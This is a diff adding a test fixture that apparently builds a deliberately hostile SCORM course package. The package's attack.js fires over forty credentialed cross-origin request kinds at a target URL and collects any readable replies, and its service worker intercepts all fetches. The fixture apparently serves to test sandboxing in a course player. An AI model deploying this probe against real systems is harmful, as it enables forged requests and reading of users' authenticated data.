@@ -1,0 +1,131 @@
+import { scormPackage } from '../support/packages';
+
+/** One way to send a request to `url`. Answers with what of the reply could be read, "" when nothing could. */
+type Shape = string;
+
+const CORS = `async (init) => { const reply = await fetch(url, init); return reply.type === 'opaque' ? '' : reply.text(); }`;
+const body = { form: `new URLSearchParams('a=1')`, text: `'a=1'`, json: `'{"a":1}'`, multipart: `fields()` };
+const json = `headers: { 'content-type': 'application/json' }, body: ${body.json}`;
+
+const FETCHES = [
+  `{ credentials: 'include' }`,
+  `{ method: 'HEAD', credentials: 'include' }`,
+  `{ method: 'OPTIONS', credentials: 'include' }`,
+  `{ method: 'POST', credentials: 'include', body: ${body.form} }`,
+  `{ method: 'POST', credentials: 'include', body: ${body.text} }`,
+  `{ method: 'POST', credentials: 'include', body: ${body.multipart} }`,
+  `{ method: 'POST', credentials: 'include', ${json} }`,
+  `{ method: 'PUT', credentials: 'include', ${json} }`,
+  `{ method: 'PATCH', credentials: 'include', ${json} }`,
+  `{ method: 'DELETE', credentials: 'include' }`,
+  `{ credentials: 'omit' }`,
+  `{ method: 'POST', credentials: 'omit', body: ${body.form} }`,
+  `{ mode: 'no-cors', credentials: 'include' }`,
+  `{ mode: 'no-cors', credentials: 'include', headers: { range: 'bytes=0-10' } }`,
+  `{ mode: 'no-cors', method: 'POST', credentials: 'include', body: ${body.form} }`,
+  `{ mode: 'no-cors', method: 'POST', credentials: 'include', body: ${body.text} }`,
+  `{ mode: 'no-cors', method: 'POST', credentials: 'include', body: ${body.multipart} }`,
+  `{ mode: 'no-cors', method: 'POST', credentials: 'include', body: new Blob(['a=1']) }`,
+  `{ mode: 'same-origin', credentials: 'include' }`,
+  `{ credentials: 'include', redirect: 'manual' }`,
+  `{ credentials: 'include', headers: { 'x-requested-with': 'XMLHttpRequest', 'x-http-method-override': 'DELETE' } }`,
+  `{ method: 'POST', credentials: 'include', referrer: '', referrerPolicy: 'unsafe-url', body: ${body.form} }`,
+  `{ method: 'POST', mode: 'no-cors', credentials: 'include', keepalive: true, body: ${body.text} }`,
+].map((init): Shape => `(${CORS})(${init})`);
+
+const XHRS = [
+  ['GET', 'null', ''],
+  ['POST', body.form, ''],
+  ['POST', body.json, 'application/json'],
+  ['POST', body.text, 'text/plain'],
+  ['PUT', body.json, 'application/json'],
+  ['DELETE', 'null', ''],
+].map(([method, sent, type]): Shape => `xhr('${method}', ${sent}, '${type}')`);
+
+const BEACONS = [body.text, body.form, body.multipart, `new Blob([${body.json}], { type: 'application/json' })`].map(
+  (sent): Shape => `(navigator.sendBeacon(url, ${sent}), '')`,
+);
+
+const FORMS = [
+  ['get', 'application/x-www-form-urlencoded'],
+  ['post', 'application/x-www-form-urlencoded'],
+  ['post', 'multipart/form-data'],
+  ['post', 'text/plain'],
+].map(([method, type]): Shape => `form('${method}', '${type}')`);
+
+const ELEMENTS = [
+  `element('img', 'src')`,
+  `element('script', 'src')`,
+  `element('link', 'href', { rel: 'stylesheet' })`,
+  `element('iframe', 'src')`,
+  `element('object', 'data')`,
+  `element('video', 'src')`,
+  `new Promise((done) => { const source = new EventSource(url, { withCredentials: true }); source.onmessage = (event) => done(event.data); source.onerror = () => { source.close(); done(''); }; })`,
+  `new Promise((done) => { const socket = new WebSocket(url.replace('http', 'ws')); socket.onmessage = (event) => done(String(event.data)); socket.onerror = () => done(''); })`,
+];
+
+/** More than forty. */
+export const SHAPES: readonly Shape[] = [...FETCHES, ...XHRS, ...BEACONS, ...FORMS, ...ELEMENTS];
+
+const ATTACK = `
+const fields = () => { const form = new FormData(); form.append('a', '1'); return form; };
+const readable = (frame) => { try { return frame.contentDocument?.body?.innerText ?? ''; } catch { return ''; } };
+function tools(url) {
+  const xhr = (method, sent, type) => new Promise((done) => {
+    const request = new XMLHttpRequest();
+    request.open(method, url);
+    request.withCredentials = true;
+    if (type) request.setRequestHeader('content-type', type);
+    request.onload = () => done(request.responseText);
+    request.onerror = () => done('');
+    request.send(sent);
+  });
+  const gone = (node, read) => new Promise((done) => {
+    const end = () => { const text = read(); setTimeout(() => node.remove(), 0); done(text); };
+    node.onload = end;
+    node.onerror = end;
+    setTimeout(end, 1500);
+  });
+  const element = (name, attribute, more = {}) => {
+    const node = document.createElement(name);
+    Object.assign(node, more);
+    const result = gone(node, () => readable(node));
+    node.setAttribute(attribute, url);
+    document.body.append(node);
+    return result;
+  };
+  const form = (method, type) => {
+    const frame = document.createElement('iframe');
+    frame.name = 'target-' + Math.random();
+    const node = document.createElement('form');
+    Object.assign(node, { method, enctype: type, action: url, target: frame.name });
+    node.innerHTML = '<input name="a" value="1">';
+    document.body.append(frame, node);
+    const result = gone(frame, () => readable(frame));
+    node.submit();
+    node.remove();
+    return result;
+  };
+  return { xhr, element, form };
+}
+/** Fires every shape at an address; answers with what could be read. */
+window.attack = async (url, shapes) => {
+  const { xhr, element, form } = tools(url);
+  const fire = (shape) => Function('url', 'xhr', 'element', 'form', 'fields', 'return ' + shape)(url, xhr, element, form, fields);
+  const patience = (promise) => Promise.race([promise, new Promise((done) => setTimeout(done, 4000, ''))]);
+  const read = await Promise.all(shapes.map(async (shape) => { try { return await patience(fire(shape)); } catch { return ''; } }));
+  return shapes.map((shape, at) => [shape, read[at]]).filter(([, text]) => text);
+};
+`;
+
+/** A package that does nothing of what it should. */
+export const hostilePackage = (): Promise<Buffer> =>
+  scormPackage({
+    title: 'Free golf balls',
+    scos: [{ id: 'one', href: 'one.html' }],
+    files: {
+      'one.html': `<!doctype html><title>Golf</title><h1>Golf</h1><script src="attack.js"></script>`,
+      'attack.js': ATTACK,
+      'worker.js': `self.addEventListener('fetch', (event) => event.respondWith(new Response('mine')));`,
+    },
+  });
